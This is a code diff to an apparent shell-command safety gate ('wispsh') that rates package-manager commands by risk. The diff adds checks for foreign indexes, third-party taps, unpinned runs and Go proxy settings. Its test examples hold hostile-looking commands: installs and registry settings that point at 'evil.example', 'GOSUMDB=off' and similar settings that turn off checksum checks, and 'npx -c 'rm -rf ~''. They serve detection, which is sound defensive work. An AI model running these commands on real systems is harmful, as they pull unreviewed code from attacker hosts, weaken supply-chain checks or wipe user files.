@@ -6,11 +6,13 @@ A registry install is an install; a URL, a repository, another index or a path o
 """
 from __future__ import annotations
 
+import os
 import re
 
 from wispsh.policy import places
 from wispsh.programs.delegate import hand_on, runs_operands
 from wispsh.programs.grammar import UNKNOWN
+from wispsh.programs.sources import host_of, index_is_known
 from wispsh.programs.table import Grammar, On, Program, Row, When, emits, programs, verb
 from wispsh.support.lazyre import lazy_re
 
@@ -41,6 +43,8 @@ def judge_spec(cmd, spec: str) -> None:
                  f"{tool} installs from a repository ({spec}); its build scripts run unreviewed")
     elif tool in GITHUB_SHORTHAND and _SHORTHAND.fullmatch(spec):
         cmd.does("install-outside", "install.from-github", f"{tool} installs {spec} straight from GitHub")
+    elif tool == "brew" and spec.count("/") == 2 and not spec.startswith("homebrew/"):
+        cmd.does("install-outside", "install.from-tap", f"brew installs {spec} from a third-party tap")
     elif spec.startswith(("/", "./", "../", "~", "file:")) or spec in (".", "..") or spec.endswith(ARCHIVES):
         where = cmd.place(spec[5:] if spec.startswith("file:") else spec)
         if where.cls in (places.PROJECT, places.PROJECT_ROOT):
@@ -56,12 +60,13 @@ def judge_spec(cmd, spec: str) -> None:
                              "brew install https://example.com/x.rb"],
         "install.from-vcs": ["pip install git+https://github.com/x/y.git", "npm install github:x/y",
                              "cargo install --git https://github.com/x/y", "pip install -e git+https://x.example/y"],
-        "install.from-github": ["npm install x/y"], "install.project": ["pip install -e .", "cargo install --path ."],
+        "install.from-github": ["npm install x/y"], "install.from-tap": ["brew install x/y/z"], "install.project": ["pip install -e .", "cargo install --path ."],
         "install.from-path": ["pip install /tmp/pkg.whl", "cargo install --path ../other", "gem install /tmp/x.gem"],
         "install.registry": ["pip install requests", "npm install lodash", "gem install rails", "pipx install black"]})
 def install_specs(cmd, o) -> None:
     """The packages an install verb names: its operands, -e/--editable, --spec, --with, --from, and cargo's
-    --git and --path. Each is judged by where it comes from."""
+    --git and --path. Each is judged by where it comes from, and so are the indexes it is told to use."""
+    judge_index(cmd, o)
     specs = list(o.operands) + o.all("e", "editable", "spec", "with", "from")
     specs += [url if url.startswith("git") else "git+" + url for url in o.all("git")]
     specs += [path if path.startswith(("/", ".", "~")) else "./" + path for path in o.all("path")]
@@ -76,13 +81,48 @@ def removes_the_gate(cmd, o) -> None:
         cmd.does("gate", "uninstall.gate", f"{cmd.name} removes wispsh: it takes the gate away")
 
 
-INDEX_OPTIONS = ("i", "index-url", "extra-index-url", "f", "find-links", "trusted-host", "index", "default-index")
+INDEX_OPTIONS = frozenset({"i", "index-url", "extra-index-url", "f", "find-links", "trusted-host", "index",
+                           "default-index", "registry", "source", "s"})
 
 
-def index_row(rule: str, example: str, names=INDEX_OPTIONS) -> Row:
-    """The options that make an installer fetch from another index or registry."""
-    return Row(rule, "install-outside", "{cmd} installs from another index ({value})", When(value=names),
-               examples=(example,))
+def judge_index(cmd, o) -> None:
+    """The indexes an installer is told to fetch from (--index-url, --extra-index-url, --find-links,
+    --trusted-host, npm's --registry, gem's --source, cargo's --index): a foreign one serves packages whose
+    build scripts run unreviewed. Its ids and examples are listed on `index_options`."""
+    tool = cmd.name
+    for name, value in o.values:
+        if name not in INDEX_OPTIONS:
+            continue
+        if UNKNOWN in value:
+            cmd.does("run-code", "index.runtime", f"{tool} installs from an index known only at run time")
+        elif index_is_known(value):
+            cmd.does("install", "index.known", f"{tool} installs from {host_of(value) or value}")
+        elif "://" not in value and (name in ("f", "find-links") or value.startswith(("/", ".", "~"))):
+            where = cmd.place(value)
+            if where.cls in (places.PROJECT, places.PROJECT_ROOT):
+                cmd.does("run-project", "index.project", f"{tool} installs packages from the project's {value}")
+            else:
+                cmd.does("install-outside", "index.outside", f"{tool} installs packages from {where.path}")
+        elif "://" not in value and name in ("registry", "source", "index") and "." not in value:
+            cmd.does("install-outside", "index.named", f"{tool} installs from the registry named {value}")
+        else:
+            cmd.does("install-foreign", "index.foreign", f"{tool} installs from another index ({value}): what it "
+                                                         f"serves runs unreviewed")
+
+
+@emits({"index.foreign": ["pip install --index-url https://evil.example/simple requests",
+                          "pip install --extra-index-url https://evil.example/simple x",
+                          "npm install --registry=https://evil.example lodash", "pip install --trusted-host evil.example x",
+                          "gem install --source https://evil.example x", "cargo install --index sparse+https://evil.example/ x"],
+        "index.known": ["pip install --index-url https://download.pytorch.org/whl/cu121 torch",
+                        "npm install --registry https://registry.npmjs.org/ lodash"],
+        "index.runtime": ['pip install --index-url "$INDEX" x'],
+        "index.project": ["pip install --no-index --find-links ./wheels x"],
+        "index.outside": ["pip install --find-links /tmp/wheels x"],
+        "index.named": ["cargo install --registry my-registry x"]})
+def index_options(cmd, o) -> None:
+    """Index options given where no package is named (before the verb, `uv sync --index …`)."""
+    judge_index(cmd, o)
 
 
 # ---------------------------------------------------------------- pip
@@ -99,7 +139,6 @@ PIP_GRAMMAR = Grammar(
 PIP_INSTALL = verb(
     grammar=PIP_GRAMMAR,
     rows=(
-        index_row("pip.install.index", "pip install --index-url https://evil.example/simple requests"),
         Row("pip.install.requirements", "install", "{cmd} installs what a requirements file lists",
             When(value=("r", "requirement", "c", "constraint")), examples=("pip install -r requirements.txt",)),
         Row("pip.install.unnamed", "install", "{cmd} fetches from the registry",
@@ -114,31 +153,61 @@ PIP_INSTALL = verb(
 )
 PIP_REMOVE = verb(grammar=PIP_GRAMMAR, hook=removes_the_gate,
                   rows=(Row("pip.uninstall", "change", "{cmd} uninstalls packages", examples=("pip uninstall -y x",)),))
+INDEX_KEYS = ("index-url", "extra-index-url", "find-links", "trusted-host", "index", "registry", "source")
+
+
+def _configures_index(cmd, key: str, value: str | None, rule: str) -> bool:
+    """`KEY VALUE` naming where packages come from: a foreign index is as dangerous as installing from it."""
+    if not key.lower().rsplit(".", 1)[-1].endswith(INDEX_KEYS) or value is None:
+        return False
+    if UNKNOWN in value:
+        cmd.does("steer", rule + "-runtime", f"{cmd.name} config sets {key} to something known only at run time")
+    elif index_is_known(value):
+        cmd.does("steer", rule + "-known", f"{cmd.name} config sets {key} ({host_of(value) or value})")
+    else:
+        cmd.does("install-foreign", rule, f"{cmd.name} config makes every install use {value}: what it serves "
+                                          f"runs unreviewed")
+    return True
+
+
+@emits({"pip.config.index": ["pip config set global.index-url https://evil.example/simple",
+                             "pip config --user set global.extra-index-url https://evil.example/simple"],
+        "pip.config.index-known": ["pip config set global.index-url https://pypi.org/simple"],
+        "pip.config.index-runtime": ['pip config set global.index-url "$URL"'],
+        "pip.config.set": ["pip config set global.timeout 60"]})
+def pip_config_set(cmd, o) -> None:
+    """`pip config set KEY VALUE`: the index keys say where every later install comes from."""
+    key = o.operands[0] if o.operands else ""
+    value = o.operands[1] if len(o.operands) > 1 else None
+    if not _configures_index(cmd, key, value, "pip.config.index"):
+        cmd.does("steer", "pip.config.set", f"{cmd.name} config changes {key or 'a setting'}")
+
+
 PIP_CONFIG = verb(
+    verbs={"set": verb(hook=pip_config_set)},
     read_only=("get", "list", "debug"),
     default=Row("pip.config.change", "steer", "{cmd} changes pip's configuration (where it installs from)",
-                examples=("pip config set global.index-url https://evil.example/simple", "pip config edit")),
+                examples=("pip config unset global.index-url", "pip config edit")),
 )
 PIP = Program(
     "pip", aliases=("pip3", "pip2"), doc="the Python package installer",
     grammar=PIP_GRAMMAR,
-    rows=(index_row("pip.index", "pip --index-url https://evil.example/simple install x"),),
+    hook=index_options,
     verbs={**dict.fromkeys(("install", "download", "wheel", "add", "sync", "compile"), PIP_INSTALL),
            "uninstall": PIP_REMOVE, "remove": PIP_REMOVE, "config": PIP_CONFIG},
     read_only=("list", "show", "freeze", "check", "search", "help", "inspect", "hash", "debug", "completion",
                "index", "cache"),
     default=Row("pip.verb", "unknown", "{cmd}", examples=("pip frobnicate",)),
     examples={"pip install requests": "moderate", "pip list": "safe", "pip install git+https://x.example/y": "dangerous",
-              "pip install -e .": "moderate", "pip config set global.index-url https://x.example": "high"},
+              "pip install -e .": "moderate", "pip config set global.index-url https://x.example": "dangerous"},
 )
 
 # ---------------------------------------------------------------- uv, uvx, pipx, poetry
 
-UV_ENV_GRAMMAR = Grammar(values=PIP_GRAMMAR.values, long_values=PIP_GRAMMAR.long_values + ("with", "extra"))
-UV_CHANGES = verb(grammar=UV_ENV_GRAMMAR,
-                  rows=(index_row("uv.env.index", "uv sync --index https://evil.example/simple"),
-                        Row("uv.env", "install", "{cmd} changes the environment", examples=("uv sync", "uv lock"))))
-UV_READS = verb(grammar=UV_ENV_GRAMMAR, rows=(index_row("uv.reads.index", "uv tree --index https://evil.example/s"),))
+UV_ENV_GRAMMAR = Grammar(values=PIP_GRAMMAR.values, long_values=PIP_GRAMMAR.long_values + ("with", "extra", "default-index"))
+UV_CHANGES = verb(grammar=UV_ENV_GRAMMAR, hook=index_options,
+                  rows=(Row("uv.env", "install", "{cmd} changes the environment", examples=("uv sync", "uv lock")),))
+UV_READS = verb(grammar=UV_ENV_GRAMMAR, hook=index_options)
 
 
 @emits({"uv.pip": ["uv pip install requests"]})
@@ -156,14 +225,55 @@ def uv_run(cmd, o) -> None:
     hand_on(cmd, o.operands, "uv.run.command")
 
 
+PINNED_VERSION = lazy_re(r"v?\d+(\.\d+)+([-+.][0-9A-Za-z.-]+)?")
+
+
+def _pinned_python(spec: str) -> bool:
+    """`ruff==0.5.0`, `ruff@0.5.0`: one exact version (a range or @latest is not pinned)."""
+    for sep in ("===", "==", "@"):
+        name, found, version = spec.partition(sep)
+        if found and name and PINNED_VERSION.fullmatch(version.strip()):
+            return True
+    return False
+
+
+@emits({"uvx.from": ["uvx --from git+https://github.com/x/y tool", "uvx --with requests tool"],
+        "uvx.unpinned": ["uvx ruff check", "uvx pycowsay@latest hi", "uv tool run black ."],
+        "uvx.pinned": ["uvx ruff@0.5.0 check", "uvx --from 'black==24.1.0' black ."]})
+def uvx_packages(cmd, o) -> None:
+    """uvx (`uv tool run`) fetches the tool (or --from) from the registry and runs it; --with adds packages.
+    Unless one exact version is named, what runs is whatever the registry serves today."""
+    judge_index(cmd, o)
+    for spec in o.all("from", "with"):
+        cmd.fired.add("uvx.from")
+        judge_spec(cmd, spec)
+    source = (o.all("from") or o.operands[:1] or [""])[0]
+    if not source or UNKNOWN in source or "://" in source or source.startswith(("git+", ".", "/", "~")):
+        return      # judged by judge_spec (a URL, a repository, a path) or nothing to run
+    if _pinned_python(source):
+        cmd.does("install", "uvx.pinned", f"{cmd.name} runs {source} from the registry")
+    else:
+        cmd.does("run-unpinned", "uvx.unpinned", f"{cmd.name} runs {source} as the registry serves it today (not "
+                                                 f"pinned)")
+
+
+UVX_GRAMMAR = Grammar(long_values=("from", "with", "python", "index", "default-index", "index-url"), stop=True)
+UVX = Program(
+    "uvx", doc="runs a Python tool from the registry (uv tool run)",
+    grammar=UVX_GRAMMAR,
+    rows=(Row("uvx.runs", "install", "runs a tool from the registry", examples=("uvx ruff check",)),),
+    hook=uvx_packages,
+    examples={"uvx --from git+https://x.example/y tool": "dangerous", "uvx ruff check": "high",
+              "uvx ruff@0.5.0 check": "moderate"},
+)
+
 UV_TOOL_INSTALL = verb(grammar=UV_ENV_GRAMMAR, hook=install_specs)
 UV = Program(
     "uv", doc="the Python package and project manager",
     grammar=Grammar(values="p", long_values=("python", "directory", "project", "config-file", "cache-dir", "color")),
     verbs={
         "pip": verb(hook=uv_pip),
-        "add": verb(grammar=UV_ENV_GRAMMAR, rows=(index_row("uv.add.index", "uv add --index https://evil.example x"),),
-                    hook=install_specs),
+        "add": verb(grammar=UV_ENV_GRAMMAR, hook=install_specs),
         "remove": verb(grammar=UV_ENV_GRAMMAR, hook=removes_the_gate,
                        rows=(Row("uv.remove", "install", "{cmd} changes the environment", examples=("uv remove x",)),)),
         **dict.fromkeys(("sync", "lock", "venv", "init", "build", "python", "self", "format"), UV_CHANGES),
@@ -178,8 +288,9 @@ UV = Program(
                    "uninstall": verb(hook=removes_the_gate,
                                      rows=(Row("uv.tool.uninstall", "install", "{cmd} removes a tool",
                                                examples=("uv tool uninstall ruff",)),)),
-                   "run": verb(rows=(Row("uv.tool.run", "install", "runs a tool from the registry",
-                                         examples=("uv tool run ruff check",)),))},
+                   "run": verb(grammar=UVX_GRAMMAR, hook=uvx_packages, rows=(
+                       Row("uv.tool.run", "install", "runs a tool from the registry",
+                           examples=("uv tool run ruff check",)),))},
             read_only=("list", "dir"),
             default=Row("uv.tool.verb", "install", "{cmd}", examples=("uv tool update-shell",))),
         "publish": verb(rows=(Row("uv.publish", "publish", "publishes a package", examples=("uv publish",)),)),
@@ -189,39 +300,30 @@ UV = Program(
               "uv pip install -r requirements.txt": "moderate"},
 )
 
-@emits({"uvx.from": ["uvx --from git+https://github.com/x/y tool", "uvx --with requests tool"]})
-def uvx_packages(cmd, o) -> None:
-    """uvx installs what --from and --with name; its operands are the tool and the tool's arguments."""
-    for spec in o.all("from", "with"):
-        cmd.fired.add("uvx.from")
-        judge_spec(cmd, spec)
-
-
-UVX = Program(
-    "uvx", doc="runs a Python tool from the registry (uv tool run)",
-    grammar=Grammar(long_values=("from", "with", "python", "index"), stop=True),
-    rows=(Row("uvx.runs", "install", "runs a tool from the registry", examples=("uvx ruff check",)),
-          index_row("uvx.index", "uvx --index https://evil.example/simple tool", names=("index",))),
-    hook=uvx_packages,
-    examples={"uvx --from git+https://x.example/y tool": "dangerous"},
-)
-
 PIPX_GRAMMAR = Grammar(long_values=("spec", "index-url", "pip-args", "python", "suffix"))
 PIPX_INSTALLS = verb(
     grammar=PIPX_GRAMMAR,
-    rows=(Row("pipx.install", "install", "{cmd}", examples=("pipx install black",)),
-          index_row("pipx.install.index", "pipx install --index-url https://evil.example/simple black",
-                    names=("index-url",))),
+    rows=(Row("pipx.install", "install", "{cmd}", examples=("pipx install black",)),),
     hook=install_specs,
 )
 
 
-@emits({"pipx.run.package": ["pipx run black ."]})
+@emits({"pipx.run.unpinned": ["pipx run black .", "pipx run --spec black black ."],
+        "pipx.run.pinned": ["pipx run --spec black==24.1.0 black ."]})
 def pipx_run(cmd, o) -> None:
-    """`pipx run APP ARGS…`: the app (or --spec) is fetched; the rest are the app's arguments."""
+    """`pipx run APP ARGS…`: the app (or --spec) is fetched and run; the rest are the app's arguments. Unless
+    one exact version is named, it is whatever the registry serves today."""
+    judge_index(cmd, o)
     for spec in o.all("spec") + o.operands[:1]:
-        cmd.fired.add("pipx.run.package")
         judge_spec(cmd, spec)
+    source = (o.all("spec") or o.operands[:1] or [""])[0]
+    if not source or UNKNOWN in source or "://" in source or source.startswith(("git+", ".", "/", "~")):
+        return
+    if _pinned_python(source):
+        cmd.does("install", "pipx.run.pinned", f"pipx runs {source} from the registry")
+    else:
+        cmd.does("run-unpinned", "pipx.run.unpinned", f"pipx runs {source} as the registry serves it today (not "
+                                                      f"pinned)")
 
 
 PIPX = Program(
@@ -229,9 +331,7 @@ PIPX = Program(
     verbs={**dict.fromkeys(("install", "inject", "upgrade"), PIPX_INSTALLS),
            "run": verb(grammar=Grammar(long_values=PIPX_GRAMMAR.long_values, stop=True),
                        rows=(Row("pipx.run", "install", "{cmd} runs an application from the registry",
-                                 examples=("pipx run black .",)),
-                             index_row("pipx.run.index", "pipx run --index-url https://evil.example/simple x",
-                                       names=("index-url",))),
+                                 examples=("pipx run black .",)),),
                        hook=pipx_run),
            **dict.fromkeys(("uninstall", "reinstall"),
                            verb(hook=removes_the_gate, rows=(Row("pipx.uninstall", "install", "{cmd}",
@@ -239,6 +339,33 @@ PIPX = Program(
     read_only=("list", "environment"),
     default=Row("pipx.verb", "install", "{cmd}", examples=("pipx ensurepath",)),
 )
+
+@emits({"poetry.source.foreign": ["poetry source add evil https://evil.example/simple"],
+        "poetry.source.known": ["poetry source add torch https://download.pytorch.org/whl/cpu"]})
+def poetry_source(cmd, o) -> None:
+    """`poetry source add NAME URL`: the project's installs may come from URL."""
+    url = o.operands[1] if len(o.operands) > 1 else ""
+    if url and not index_is_known(url):
+        cmd.does("install-foreign", "poetry.source.foreign", f"adds the package source {url}: what it serves runs "
+                                                             f"unreviewed")
+    else:
+        cmd.does("steer", "poetry.source.known", f"adds the package source {url or '(the default)'}")
+
+
+@emits({"poetry.config.repositories": ["poetry config repositories.evil https://x.example"],
+        "poetry.config.repositories-known": ["poetry config repositories.pypi https://pypi.org/simple"],
+        "poetry.config.repositories-runtime": ['poetry config repositories.x "$URL"'],
+        "poetry.config": ["poetry config virtualenvs.in-project true"]})
+def poetry_config(cmd, o) -> None:
+    """`poetry config repositories.NAME URL` says where packages come from; other keys are settings."""
+    key = o.operands[0] if o.operands else ""
+    value = o.operands[1] if len(o.operands) > 1 else None
+    if key.startswith("repositories.") and value is not None:
+        _configures_index(cmd, key.replace("repositories.", "index.", 1) + "-index", value,
+                          "poetry.config.repositories")
+    else:
+        cmd.does("change", "poetry.config", "changes poetry's config")
+
 
 POETRY = Program(
     "poetry", aliases=("pdm", "hatch", "rye"), doc="Python project managers",
@@ -249,15 +376,10 @@ POETRY = Program(
                                                               "markers")),
                     hook=install_specs),
         "publish": verb(rows=(Row("poetry.publish", "publish", "publishes a package", examples=("poetry publish",)),)),
-        "source": verb(verbs={"add": verb(rows=(Row("poetry.source.add", "steer", "{cmd} adds a package source",
-                                                    examples=("poetry source add evil https://evil.example/s",)),))},
+        "source": verb(verbs={"add": verb(grammar=Grammar(long_values=("priority",)), hook=poetry_source)},
                        default=Row("poetry.source", "change", "{cmd} changes poetry's sources",
                                    examples=("poetry source remove x",))),
-        "config": verb(rows=(
-            Row("poetry.config.repositories", "steer", "changes where poetry installs from",
-                When(arg=("repositories",)), stop=True, examples=("poetry config repositories.evil https://x.example",)),
-            Row("poetry.config", "change", "changes poetry's config", examples=("poetry config virtualenvs.in-project true",)),
-        )),
+        "config": verb(hook=poetry_config),
     },
     read_only=("show", "check", "version", "env", "about", "list", "search"),
     default=Row("poetry.verb", "install", "{cmd}", examples=("poetry install", "poetry lock", "hatch build")),
@@ -272,16 +394,37 @@ NPX_GRAMMAR = Grammar(values="pcwC", long_values=NPM_VALUES + ("package", "call"
                       stop=True)
 RUNS_ANYTHING = frozenset({"sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "tcsh", "csh", "busybox",
                            "node", "python", "python3", "perl", "ruby", "deno", "bun", "pwsh"})
-STEERING_CONFIG = lazy_re(r"registry|script-shell|node-options|git|proxy|cafile|strict-ssl|ignore-scripts|prefix")
+STEERING_CONFIG = lazy_re(r"registry|script-shell|node-options|git|proxy|cafile|strict-ssl|ignore-scripts|prefix",
+                          re.I)
+# Dev tools a project installs and runs through npx (`npx tsc`, `npx eslint .`): the project's own binaries
+PROJECT_TOOLS = frozenset({
+    "tsc", "eslint", "prettier", "jest", "vitest", "mocha", "webpack", "vite", "next", "nuxt", "tsx", "ts-node",
+    "playwright", "cypress", "nodemon", "rollup", "esbuild", "turbo", "nx", "lerna", "changeset", "lint-staged",
+    "stylelint", "tailwindcss", "prisma", "drizzle-kit", "storybook", "astro", "vue-tsc", "biome", "knip",
+    "concurrently", "cross-env", "rimraf", "husky", "svelte-kit", "ng", "react-scripts", "expo", "wrangler",
+})
+_NPM_EXACT = lazy_re(r"v?\d+\.\d+\.\d+([-+][0-9A-Za-z.-]+)?")
+
+
+def _npm_version(spec: str) -> tuple[str, str | None]:
+    """`@scope/pkg@1.2.3` -> ("@scope/pkg", "1.2.3"); no version -> (spec, None)."""
+    at = spec.rfind("@")
+    if at <= 0:
+        return spec, None
+    return spec[:at], spec[at + 1:]
 
 
 @emits({"npx.package": ["npx -p typescript tsc", "npx --package=git+https://x.example/y tool"],
         "npx.call": ["npx -c 'rm -rf ~'", "npm exec --call='echo hi'"], "npx.call-runtime": ['npx -c "$CMD"'],
         "npx.runs-anything": ["npx bash", "npx node x.js"], "npx.runtime-program": ['npx "$TOOL"'],
-        "npx.program": ["npx cowsay hi", "bunx cowsay"]})
+        "npx.unpinned": ["npx -y pkg@latest", "npx cowsay hi", "bunx cowsay", "npx create-next-app@latest web"],
+        "npx.pinned": ["npx cowsay@1.6.0 hi"], "npx.project-tool": ["npx tsc --noEmit", "npx prettier --check ."]})
 def runs_package(cmd, o) -> None:
-    """npx, bunx, `npm exec`: -p/--package packages are fetched, -c/--call is a shell command line, and the
-    first operand is a package whose program runs with the other operands."""
+    """npx, bunx, `npm exec`, `pnpm dlx`: -p/--package packages are fetched, -c/--call is a shell command line,
+    and the first operand is a package whose program runs with the other operands. Without a TTY npx installs
+    what is missing without asking, so a package that is neither the project's nor pinned is whatever the
+    registry serves today."""
+    judge_index(cmd, o)
     for spec in o.all("p", "package"):
         judge_spec(cmd, spec)
         cmd.does("run-unpinned", "npx.package", f"{cmd.name} fetches {spec} and runs one of its programs")
@@ -294,13 +437,22 @@ def runs_package(cmd, o) -> None:
     if not o.operands:
         return
     program = o.operands[0]
+    name, version = _npm_version(program)
     if program in RUNS_ANYTHING:
         cmd.does("run-code", "npx.runs-anything", f"{cmd.name} runs {program}, which runs anything")
     elif UNKNOWN in program:
         cmd.does("run-code", "npx.runtime-program", f"{cmd.name} runs a program known only at run time")
-    else:
-        cmd.fired.add("npx.program")
+    elif "://" in program or _VCS.search(program) or program.startswith((".", "/", "~", "file:")) or (
+            version is None and _SHORTHAND.fullmatch(program)):
         judge_spec(cmd, program)
+    elif version is not None and _NPM_EXACT.fullmatch(version):
+        cmd.does("install", "npx.pinned", f"{cmd.name} runs {program} from the registry")
+    elif version is None and (name in PROJECT_TOOLS or os.path.exists(
+            os.path.join(cmd.ctx.project_root, "node_modules", ".bin", name))):
+        cmd.does("run-project", "npx.project-tool", f"{cmd.name} runs the project's {name}")
+    else:
+        cmd.does("run-unpinned", "npx.unpinned", f"{cmd.name} runs {program} as the registry serves it today (not "
+                                                 f"pinned)")
     cmd.delegate_to = list(o.operands)
 
 
@@ -312,13 +464,28 @@ def yarn_exec(cmd, o) -> None:
         cmd.code_text(" ".join(o.args), "yarn exec runs", at_least=cmd.ctx.level_of("run-project", ""))
 
 
-@emits({"npm.config.steers": ["npm config set registry https://evil.example", "npm set registry https://x.example"],
+@emits({"npm.config.registry": ["npm config set registry https://evil.example", "npm set registry https://x.example",
+                                "yarn config set npmRegistryServer https://evil.example",
+                                "npm config set @corp:registry=https://evil.example/"],
+        "npm.config.registry-known": ["npm config set registry https://registry.npmjs.org/"],
+        "npm.config.steers": ["npm config set script-shell /tmp/x", "npm config set ignore-scripts false"],
         "npm.config.set": ["npm config set fund false"]})
 def npm_config_key(cmd, o) -> None:
-    """`npm config set KEY VALUE` (or KEY=VALUE): keys that say where packages come from or what runs scripts
-    steer npm; the rest are plain settings."""
-    key = (o.operands[0] if o.operands else "").split("=", 1)[0]
-    if STEERING_CONFIG.search(key):
+    """`npm config set KEY VALUE` (or KEY=VALUE): a registry key says where every later install comes from;
+    other keys say what runs scripts; the rest are plain settings."""
+    words = list(o.operands)
+    key, eq, value = (words[0] if words else "").partition("=")
+    if not eq:
+        value = words[1] if len(words) > 1 else None
+    if "registry" in key.lower() and value is not None:
+        if UNKNOWN in value:
+            cmd.does("steer", "npm.config.steers", f"{cmd.name} config sets {key} to something known only at run time")
+        elif index_is_known(value):
+            cmd.does("local-config", "npm.config.registry-known", f"{cmd.name} config sets {key} ({host_of(value)})")
+        else:
+            cmd.does("install-foreign", "npm.config.registry", f"{cmd.name} config makes every install use {value}: "
+                                                               f"what it serves runs unreviewed")
+    elif STEERING_CONFIG.search(key):
         cmd.does("steer", "npm.config.steers", f"{cmd.name} config changes {key} (where it installs from or what "
                                                f"it runs)")
     else:
@@ -327,15 +494,13 @@ def npm_config_key(cmd, o) -> None:
 
 NPM_INSTALL = verb(
     grammar=NPM_GRAMMAR,
-    rows=(index_row("npm.install.registry", "npm install --registry https://evil.example lodash", names=("registry",)),
-          Row("npm.install.all", "install", "{cmd} installs the project's dependencies (their install scripts run)",
-              When(operands=False), examples=("npm ci", "npm install"))),
+    rows=(Row("npm.install.all", "install", "{cmd} installs the project's dependencies (their install scripts run)",
+              When(operands=False), examples=("npm ci", "npm install")),),
     hook=install_specs,
 )
 NPM_EXEC = verb(
     grammar=NPX_GRAMMAR,
-    rows=(Row("npm.exec", "install", "{cmd} runs a package from the registry", examples=("npm exec eslint",)),
-          index_row("npm.exec.registry", "npm exec --registry https://evil.example x", names=("registry",))),
+    rows=(Row("npm.exec", "install", "{cmd} runs a package from the registry", examples=("npm exec eslint",)),),
     hook=runs_package,
 )
 NPM_SET = verb(grammar=NPM_GRAMMAR, hook=npm_config_key)
@@ -380,14 +545,14 @@ NPM_READ_ONLY = ("ls", "list", "ll", "la", "view", "v", "info", "show", "outdate
 
 
 def _npm_like(name: str, installs_bare: bool, verbs: dict, default: Row, examples: dict) -> Program:
-    rows = (index_row(f"{name}.registry", f"{name} --registry https://evil.example install x", names=("registry",)),
-            Row(f"{name}.script-shell", "run-code", "{cmd} runs scripts with {value}",
-                When(value=("script-shell", "node-options")), examples=(f"{name} --script-shell=/tmp/x run build",)))
+    rows = (Row(f"{name}.script-shell", "run-code", "{cmd} runs scripts with {value}",
+                When(value=("script-shell", "node-options")), examples=(f"{name} --script-shell=/tmp/x run build",)),)
     if installs_bare:
         rows += (Row(f"{name}.install", "install", "{cmd} installs the project's dependencies",
                      When(operands=False, unless=("version", "v", "help", "h")), examples=(name,),
                      not_examples=(f"{name} -v",)),)
     return Program(name, doc=f"{name}: JavaScript packages and project scripts", grammar=NPM_GRAMMAR, rows=rows,
+                   hook=index_options,
                    verbs=verbs, read_only=NPM_READ_ONLY, default=default, examples=examples)
 
 
@@ -409,7 +574,6 @@ def _runner(name: str) -> Program:
         grammar=NPX_GRAMMAR,
         rows=(Row(f"{name}.runs", "install", "{cmd} runs a package from the registry", When(operands=True),
                   examples=(f"{name} cowsay",), not_examples=(name,)),
-              index_row(f"{name}.registry", f"{name} --registry https://evil.example x", names=("registry",)),
               Row(f"{name}.script-shell", "run-code", "{cmd} runs scripts with {value}",
                   When(value=("script-shell", "node-options")), examples=(f"{name} --script-shell=/tmp/x x",))),
         hook=runs_package,
@@ -427,9 +591,8 @@ CARGO_GRAMMAR = Grammar(values="Zpj", long_values=("config", "manifest-path", "t
                         longs=("locked", "frozen", "offline", "release", "all-features", "workspace", "force"))
 CARGO_INSTALL = verb(
     grammar=CARGO_GRAMMAR,
-    rows=(index_row("cargo.install.registry", "cargo install --registry evil x", names=("registry", "index")),
-          Row("cargo.install.unnamed", "install", "{cmd}", When(operands=False, no_value=("git", "path")),
-              examples=("cargo install",), not_examples=("cargo install x",))),
+    rows=(Row("cargo.install.unnamed", "install", "{cmd}", When(operands=False, no_value=("git", "path")),
+              examples=("cargo install",), not_examples=("cargo install x",)),),
     on=(On("write", ("option", "root"), says="installs into", id="cargo.install.root",
            examples=("cargo install --root ~/.local ripgrep",)),),
     hook=install_specs,
@@ -472,14 +635,33 @@ def go_install_remote(cmd, o) -> None:
             cmd.does("install-outside", "go.install.remote", f"go install fetches and builds {target}")
 
 
+GO_PROXIES_KNOWN = frozenset({"direct", "off", "https://proxy.golang.org"})
+GO_CHECKS_OFF = ("GOSUMDB=off", "GONOSUMDB=*", "GONOSUMCHECK=1", "GOINSECURE=*", "GOFLAGS=-insecure")
+
+
+@emits({"go.env.proxy": ["go env -w GOPROXY=https://evil.example", "go env -w GOPROXY=https://evil.example,direct"],
+        "go.env.checks-off": ["go env -w GOSUMDB=off", "go env -w GONOSUMDB=*", "go env -w GOINSECURE=*"]})
+def go_env_write(cmd, o) -> None:
+    """`go env -w GOPROXY=…` says where every module comes from; GOSUMDB=off and friends stop checking them."""
+    if not o.has("w"):
+        return
+    for assignment in o.operands:
+        key, _, value = assignment.partition("=")
+        if key == "GOPROXY" and any(p and p.rstrip("/") not in GO_PROXIES_KNOWN for p in value.replace("|", ",").split(",")):
+            cmd.does("install-foreign", "go.env.proxy", f"go env -w GOPROXY={value}: every module comes from there, "
+                                                        "unreviewed")
+        elif assignment in GO_CHECKS_OFF or assignment.startswith("GOINSECURE=*"):
+            cmd.does("weaken", "go.env.checks-off", f"go env -w {assignment} turns off module checksum verification")
+
+
 GO_BUILDS = Row("go.builds", "run-project", "{cmd} builds or runs project code", examples=("go build ./...",))
 GO = Program(
     "go", doc="Go's build tool",
     rows=(Row("go.toolexec", "run-code", "go runs another program (-toolexec/-exec)",
               When(arg=("-toolexec", "--toolexec", "-exec", "--exec")), examples=("go test -exec /tmp/x ./...",)),),
     verbs={
-        "env": verb(rows=(Row("go.env.write", "steer", "go env -w changes go's settings (GOPROXY, GOFLAGS)",
-                              When(flag=("w", "u")), examples=("go env -w GOPROXY=https://evil.example",)),)),
+        "env": verb(hook=go_env_write, rows=(Row("go.env.write", "steer", "go env -w changes go's settings",
+                                                 When(flag=("w", "u")), examples=("go env -w GOFLAGS=-mod=mod",)),)),
         "run": verb(rows=(Row("go.run", "run-project", "{cmd} builds or runs project code", examples=("go run .",)),),
                     hook=go_run_remote),
         "install": verb(rows=(Row("go.install", "run-project", "{cmd} builds or runs project code",
@@ -491,12 +673,22 @@ GO = Program(
 
 # ---------------------------------------------------------------- gem, bundle, conda, composer
 
+@emits({"gem.sources.add": ["gem sources --add https://evil.example", "gem sources -a https://evil.example"],
+        "gem.sources.add-known": ["gem sources --add https://rubygems.org/"]})
+def gem_sources(cmd, o) -> None:
+    """`gem sources --add URL`: every later install may come from URL."""
+    for url in o.all("a", "add"):
+        if index_is_known(url):
+            cmd.does("steer", "gem.sources.add-known", f"gem sources --add {url}")
+        else:
+            cmd.does("install-foreign", "gem.sources.add", f"gem sources --add makes installs use {url}: what it "
+                                                           f"serves runs unreviewed")
+
+
 GEM = Program(
     "gem", doc="Ruby's package manager",
     verbs={
         "install": verb(grammar=Grammar(values="s", long_values=("source", "install-dir", "bindir")),
